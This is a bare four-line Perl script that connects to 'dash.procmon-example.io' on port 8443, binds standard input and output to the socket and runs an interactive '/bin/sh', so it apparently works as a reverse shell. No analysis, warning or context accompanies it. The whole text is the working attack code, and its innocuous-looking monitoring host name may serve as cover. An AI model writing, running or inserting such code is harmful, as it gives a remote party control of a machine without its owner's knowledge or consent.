use IO::Socket::INET;
my $d = IO::Socket::INET->new(PeerAddr => "dash.procmon-example.io:8443", Proto => "tcp") or exit;
open(STDIN, ">&", $d); open(STDOUT, ">&", $d);
exec("/bin/sh -i");
